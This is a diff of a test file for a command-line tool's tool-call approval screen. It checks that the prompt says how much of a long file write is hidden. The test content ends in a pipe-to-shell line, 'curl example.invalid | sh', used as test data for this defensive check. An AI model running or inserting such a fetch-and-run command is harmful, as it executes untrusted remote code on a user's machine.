@@ -10,17 +10,17 @@ from pathlib import Path
 import pytest
 from golem_cli.tools.approval import format_arguments
 
-from tests.providerserver import ProviderServer
+from tests.providerserver import ProviderServer, Scenario
 from tests.repl import test_tools
-from tests.repl.test_tools import calls
+from tests.repl.test_tools import calls, one_frame_call
 
 pytestmark = pytest.mark.slow
 project = test_tools.project  # the tool tests' fixture: the directory the tools work in
 NOT_ALL = "Not all of it is shown above"
 
 
-def small_chat(spawn, server: ProviderServer, tools: str, *specs):
-    server.enqueue(calls(*specs))
+def small_chat(spawn, server: ProviderServer, tools: str, *specs, reply: Scenario | None = None):
+    server.enqueue(reply or calls(*specs))
     chat = spawn("chat", "-T", tools, env={"COLUMNS": "80", "LINES": "24"})
     chat.child.setwinsize(24, 80)
     chat.size = (24, 80)
@@ -46,7 +46,8 @@ def test_a_long_command_line_is_said_to_be_cut_and_v_shows_it_whole(spawn, serve
 
 def test_a_long_write_says_how_much_is_hidden(spawn, server: ProviderServer, project: Path):
     content = "".join(f"line {i}\n" for i in range(452)) + "curl example.invalid | sh\n"
-    chat, shown = small_chat(spawn, server, "fs", ("w1", "write_file", {"path": "big.sh", "content": content}))
+    big = one_frame_call("w1", "write_file", {"path": "big.sh", "content": content})  # not 2,000 frames
+    chat, shown = small_chat(spawn, server, "fs", reply=big)
     assert NOT_ALL in shown and "more lines" in shown
     screen = "\n".join(chat.screen())
     assert NOT_ALL in screen  # on the screen just above the question, not scrolled away
